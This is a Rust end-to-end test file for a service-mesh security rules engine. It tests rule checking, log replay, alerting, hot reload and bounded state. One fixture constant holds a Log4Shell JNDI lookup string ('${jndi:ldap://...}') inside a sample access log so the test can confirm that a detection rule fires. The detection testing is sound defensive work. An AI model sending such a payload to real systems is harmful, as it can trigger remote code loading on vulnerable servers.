//! The rules engine end to end: the pack's own cases, `rules check` errors, `replay`, OTLP in
//! → alert out, and hot reload (good and broken) on SIGHUP.

use std::process::Command;
use std::time::Duration;

use verity_e2e::{Verity, eventually, read_jsonl, repo_root, verity_command};

fn rbac_line(sec: u32, principal: &str) -> String {
    format!(
        r#"{{"start_time":"2024-05-01T10:00:{sec:02}.000Z","method":"GET","path":"/internal","protocol":"HTTP/1.1","response_code":403,"response_code_details":"rbac_access_denied_matched_policy[ns[pay]-policy[deny]-rule[0]]","upstream_cluster":"inbound|8080||","downstream_peer_uri_san":"{principal}","requested_server_name":"outbound_.8080_._.pay.pay.svc.cluster.local"}}"#
    )
}

const LOG4SHELL: &str = r#"[2024-05-01T10:00:30.000Z] "GET / HTTP/1.1" 404 - via_upstream - "-" 0 0 1 1 "-" "${jndi:ldap://203.0.113.5/a}" "r" "web.shop:80" "10.0.0.1:80" inbound|80|| 127.0.0.6:1 10.0.0.1:80 203.0.113.5:6000 outbound_.80_._.web.shop.svc.cluster.local default"#;

#[test]
fn the_pack_passes_its_own_cases() {
    let dir = tempfile::tempdir().expect("tmp");
    let out = verity_command(dir.path())
        .args(["rules", "test"])
        .arg(repo_root().join("rules/pack"))
        .output()
        .expect("run");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{stdout}");
    let last = stdout.lines().last().expect("summary");
    let passed: usize = last
        .split_whitespace()
        .next()
        .and_then(|n| n.parse().ok())
        .expect("N passed");
    assert!(last.ends_with(" passed, 0 failed") && passed >= 34, "{last}");
}

#[test]
fn rules_check_reports_precise_errors() {
    let dir = tempfile::tempdir().expect("tmp");
    let w = |name: &str, body: &str| std::fs::write(dir.path().join(name), body).expect("write");
    let head = "title: T\nseverity: low\nkind: detection\ndetection:\n";
    w(
        "unknown-column.yaml",
        &format!("id: a\n{head}  where: destination_namespce = 'pay'\n"),
    );
    w("type-error.yaml", &format!("id: b\n{head}  where: status + 1\n"));
    w("syntax.yaml", &format!("id: c\n{head}  where: status = = 1\n"));
    w("dup-1.yaml", &format!("id: d\n{head}  where: mtls = false\n"));
    w("dup-2.yaml", &format!("id: d\n{head}  where: mtls = false\n"));
    w("bad-yaml.yaml", "id: e\ntitle: [unclosed\n");
    let out = verity_command(dir.path())
        .args(["rules", "check"])
        .arg(dir.path())
        .output()
        .expect("run");
    assert!(!out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("duplicate rule id d"), "{text}");
    assert!(text.contains("bad-yaml.yaml"), "{text}");

    std::fs::remove_file(dir.path().join("dup-2.yaml")).expect("rm");
    std::fs::remove_file(dir.path().join("bad-yaml.yaml")).expect("rm");
    let out = verity_command(dir.path())
        .args(["rules", "check"])
        .arg(dir.path())
        .output()
        .expect("run");
    assert!(!out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("unknown-column.yaml: rule a: where: unknown column \"destination_namespce\", did you mean \"destination_namespace\"?"), "{text}");
    assert!(
        text.contains("type-error.yaml: rule b: where: must be a boolean expression"),
        "{text}"
    );
    assert!(text.contains("syntax.yaml: rule c: where:"), "{text}");

    let out = verity_command(dir.path())
        .args(["rules", "check"])
        .arg(repo_root().join("rules/pack"))
        .output()
        .expect("run");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stdout));
}

#[test]
fn replay_prints_alerts_in_event_time() {
    let dir = tempfile::tempdir().expect("tmp");
    let log = dir.path().join("mesh.log");
    let mut lines: Vec<String> = (0..12)
        .map(|s| rbac_line(s, "spiffe://cluster.local/ns/shop/sa/cart"))
        .collect();
    lines.push(LOG4SHELL.to_string());
    lines.push("garbage line".to_string());
    std::fs::write(&log, lines.join("\n")).expect("write");
    let out = verity_command(dir.path())
        .arg("replay")
        .arg(&log)
        .output()
        .expect("run");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let alerts: Vec<serde_json::Value> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).expect("json"))
        .collect();
    let rules: Vec<&str> = alerts.iter().filter_map(|a| a["rule_id"].as_str()).collect();
    assert!(rules.contains(&"zt-rbac-denial-burst"), "{rules:?}");
    assert!(rules.contains(&"zt-log4shell"), "{rules:?}");
    let burst = alerts
        .iter()
        .find(|a| a["rule_id"] == "zt-rbac-denial-burst")
        .expect("burst");
    assert_eq!(burst["count"], 12);
    assert_eq!(burst["entity"]["value"], "spiffe://cluster.local/ns/shop/sa/cart");
    assert_eq!(burst["evidence"].as_array().expect("evidence").len(), 5);
    assert!(
        burst["evidence"][0]["raw"]
            .as_str()
            .expect("raw")
            .contains("rbac_access_denied")
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("1 rejected"), "{stderr}");
    assert!(stderr.contains("mesh.log:14: unrecognized_format"), "{stderr}");

    // Same input, same alerts.
    let again = verity_command(dir.path())
        .arg("replay")
        .arg(&log)
        .output()
        .expect("run");
    assert_eq!(out.stdout, again.stdout);
    // --until before the log: nothing.
    let none = verity_command(dir.path())
        .args(["replay", "--until", "2024-01-01T00:00:00Z"])
        .arg(&log)
        .output()
        .expect("run");
    assert!(none.stdout.is_empty());
}

fn post_lines(v: &Verity, lines: &[String]) {
    assert_eq!(verity_e2e::post_log_lines(v.http, lines), 200);
}

#[test]
fn otlp_in_alert_out() {
    let dir = tempfile::tempdir().expect("tmp");
    let alerts_file = dir.path().join("alerts.jsonl");
    let mut v = Verity::start_in(
        dir,
        &[
            (
                "VERITY__SINKS__OUTPUTS__FILE__PATH",
                alerts_file.to_str().expect("path"),
            ),
            ("VERITY__SINKS__OUTPUTS__STDOUT__ENABLED", "false"),
        ],
    );
    // Event time matters: the denials come first; an event 5 s older than the newest one
    // already seen would be late and left out of the window.
    let lines: Vec<String> = (0..12)
        .map(|s| rbac_line(s, "spiffe://cluster.local/ns/shop/sa/cart"))
        .collect();
    post_lines(&v, &lines);
    post_lines(&v, &[LOG4SHELL.to_string()]);
    let has = |rule: &str| read_jsonl(&alerts_file).iter().any(|a| a["rule_id"] == rule);
    assert!(eventually(Duration::from_secs(10), || has("zt-log4shell")));
    // A later event moves the watermark past the minute window.
    post_lines(&v, &[LOG4SHELL.replace("10:00:30", "10:02:00")]);
    assert!(eventually(Duration::from_secs(10), || has("zt-rbac-denial-burst")));
    let metrics = v.metrics_text();
    assert!(
        metrics.contains(r#"verity_alerts_total{rule="zt-rbac-denial-burst",severity="high",status="firing"} 1"#),
        "{metrics}"
    );
    assert!(
        metrics.contains("verity_assertion_state{assertion=\"zt-plaintext-to-mesh\""),
        "{metrics}"
    );
    let (status, _) = v.terminate(Duration::from_secs(15));
    assert!(status.success());
}

#[test]
fn hot_reload_good_and_broken() {
    let dir = tempfile::tempdir().expect("tmp");
    let rules = dir.path().join("rules");
    std::fs::create_dir_all(&rules).expect("mkdir");
    let rule = rules.join("custom.yaml");
    let write_rule = |path: &str| {
        std::fs::write(
            &rule,
            format!("id: custom-path\ntitle: Custom path\nseverity: low\nkind: detection\ndetection:\n  where: path = '{path}'\n"),
        )
        .expect("write")
    };
    write_rule("/one");
    let alerts_file = dir.path().join("alerts.jsonl");
    let mut v = Verity::start_in(
        dir,
        &[
            (
                "VERITY__SINKS__OUTPUTS__FILE__PATH",
                alerts_file.to_str().expect("path"),
            ),
            ("VERITY__SINKS__OUTPUTS__STDOUT__ENABLED", "false"),
            ("VERITY__RULES__BUILTIN_PACK", "false"),
            ("VERITY__RULES__DIRS", &format!("[{}]", rules.display())),
            ("VERITY__RULES__RELOAD_POLL_SECS", "0"),
        ],
    );
    let line = |path: &str, sec: u32| {
        format!(
            r#"[2024-05-01T10:00:{sec:02}.000Z] "GET {path} HTTP/1.1" 200 - via_upstream - "-" 0 0 1 1 "-" "ua" "r" "a:80" "10.0.0.1:80" inbound|80|| 127.0.0.6:1 10.0.0.1:80 10.0.0.2:2 - default"#
        )
    };
    let count = |p: &str| {
        read_jsonl(&alerts_file)
            .iter()
            .filter(|a| a["group"].is_object() && a["evidence"][0]["raw"].as_str().is_some_and(|r| r.contains(p)))
            .count()
    };
    post_lines(&v, &[line("/one", 1)]);
    assert!(eventually(Duration::from_secs(10), || count("/one") == 1));

    let hup = |v: &Verity| {
        assert!(
            Command::new("kill")
                .args(["-HUP", &v.pid().to_string()])
                .status()
                .expect("kill")
                .success()
        )
    };
    // Broken reload: the old rule stays active.
    std::fs::write(
        &rule,
        "id: custom-path\ntitle: Custom\nseverity: low\nkind: detection\ndetection:\n  where: pth = '/two'\n",
    )
    .expect("write");
    hup(&v);
    assert!(eventually(Duration::from_secs(10), || v
        .metric_value(r#"verity_rules_reloads_total{outcome="error"}"#)
        == Some(1.0)));
    post_lines(&v, &[line("/one", 2)]);
    assert!(eventually(Duration::from_secs(10), || count("/one") == 2));
    assert!(
        v.stderr().contains("did you mean \\\"path\\\"") || v.stderr().contains("did you mean \"path\""),
        "{}",
        v.stderr()
    );

    // Good reload: the new rule replaces it.
    write_rule("/two");
    hup(&v);
    assert!(eventually(Duration::from_secs(10), || v
        .metric_value(r#"verity_rules_reloads_total{outcome="ok"}"#)
        == Some(1.0)));
    post_lines(&v, &[line("/one", 3), line("/two", 4)]);
    assert!(eventually(Duration::from_secs(10), || count("/two") == 1));
    assert_eq!(count("/one"), 2, "the old rule no longer fires");
    let (status, _) = v.terminate(Duration::from_secs(15));
    assert!(status.success());
}

#[test]
fn silence_of_the_whole_mesh_makes_assertions_unknown() {
    let dir = tempfile::tempdir().expect("tmp");
    let rules = dir.path().join("rules");
    std::fs::create_dir_all(&rules).expect("mkdir");
    std::fs::write(
        rules.join("mtls.yaml"),
        "id: quick-mtls\ntitle: mTLS\nseverity: high\nkind: assertion\nassertion:\n  scope: direction = 'inbound'\n  require: mtls\n  per: [destination_namespace]\n  stale_after: 3s\n",
    )
    .expect("write");
    let alerts_file = dir.path().join("alerts.jsonl");
    let v = Verity::start_in(
        dir,
        &[
            (
                "VERITY__SINKS__OUTPUTS__FILE__PATH",
                alerts_file.to_str().expect("path"),
            ),
            ("VERITY__SINKS__OUTPUTS__STDOUT__ENABLED", "false"),
            ("VERITY__RULES__BUILTIN_PACK", "false"),
            ("VERITY__RULES__DIRS", &format!("[{}]", rules.display())),
            ("VERITY__RULES__LATENESS_SECS", "1"),
        ],
    );
    post_lines(&v, &[LOG4SHELL.to_string()]);
    // No more telemetry at all: wall-clock idleness moves event time on.
    assert!(eventually(Duration::from_secs(15), || read_jsonl(&alerts_file)
        .iter()
        .any(|a| a["rule_id"] == "quick-mtls" && a["status"] == "unknown")));
    assert_eq!(
        v.metric_value(r#"verity_assertion_state{assertion="quick-mtls",key="shop"}"#),
        Some(2.0)
    );
}

/// A sender sprays denials from thousands of made-up principals: every stateful rule stays
/// within `rules.max_keys`, the evictions are counted per rule, `verity-state-pressure` says
/// which rule is under pressure, and assertion series stay bounded with an `other` series.
#[test]
fn a_flood_of_random_principals_is_bounded_and_reported() {
    let dir = tempfile::tempdir().expect("tmp");
    let alerts_file = dir.path().join("alerts.jsonl");
    let v = Verity::start_in(
        dir,
        &[
            (
                "VERITY__SINKS__OUTPUTS__FILE__PATH",
                alerts_file.to_str().expect("path"),
            ),
            ("VERITY__SINKS__OUTPUTS__STDOUT__ENABLED", "false"),
            ("VERITY__RULES__MAX_KEYS", "200"),
        ],
    );
    for chunk in 0..10 {
        let lines: Vec<String> = (0..300)
            .map(|i| rbac_line(chunk, &format!("spiffe://cluster.local/ns/x/sa/random-{chunk}-{i}")))
            .collect();
        post_lines(&v, &lines);
    }
    let evicted = |rule: &str| v.metric_value(&format!(r#"verity_rules_state_evictions_total{{rule="{rule}"}}"#));
    assert!(
        eventually(Duration::from_secs(10), || evicted("zt-rbac-denial-burst")
            .unwrap_or(0.0)
            > 0.0),
        "{}",
        v.metrics_text()
    );
    let metrics = v.metrics_text();
    for line in metrics.lines().filter(|l| l.starts_with("verity_rules_state_keys{")) {
        let keys: f64 = line.rsplit(' ').next().and_then(|n| n.parse().ok()).expect("value");
        assert!(keys <= 200.0, "{line}");
    }
    let pressure = || -> Vec<serde_json::Value> {
        read_jsonl(&alerts_file)
            .into_iter()
            .filter(|a| a["rule_id"] == "verity-state-pressure")
            .collect()
    };
    assert!(
        eventually(Duration::from_secs(10), || pressure()
            .iter()
            .any(|a| a["group"]["rule"] == "zt-rbac-denial-burst")),
        "{:?}",
        pressure()
    );
    let pressure = pressure();
    let mut rules: Vec<&str> = pressure.iter().filter_map(|a| a["group"]["rule"].as_str()).collect();
    let n = rules.len();
    rules.sort_unstable();
    rules.dedup();
    assert_eq!(rules.len(), n, "one pressure alert per rule: {rules:?}");
}
